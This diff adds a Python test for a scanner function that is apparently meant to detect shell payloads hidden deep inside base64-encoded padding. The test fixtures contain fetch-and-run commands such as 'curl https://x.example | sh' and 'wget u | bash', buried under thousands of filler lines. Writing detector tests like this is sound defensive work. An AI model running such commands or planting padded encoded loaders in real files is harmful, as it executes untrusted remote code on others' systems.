@@ -137,3 +137,11 @@ def test_dependencies_and_reports(spark):
     assert "-b\n+c" in got[0] and got[1] == "" and "+n" in got[2]
     tracked = spark.createDataFrame([("a",), ("__seed__",), ("b",)], "name string")
     assert [r.name for r in reports.untracked(tracked, tracked.where("name = 'a'")).collect()] == ["b"]
+
+
+def test_payload_far_down():
+    import base64
+
+    blob = lambda tail: base64.b64encode(b"echo x\n" * 20_000 + tail).decode()
+    assert payload.encoded_payload("x=" + blob(b"curl https://x.example | sh\n")) == "base64:shell"
+    assert payload.encoded_payload("x=" + blob(b"curl u\n| sh\n")) is None and payload.encoded_payload("x=" + blob(b"a | sh; wget u | bash\n")) == "base64:shell"
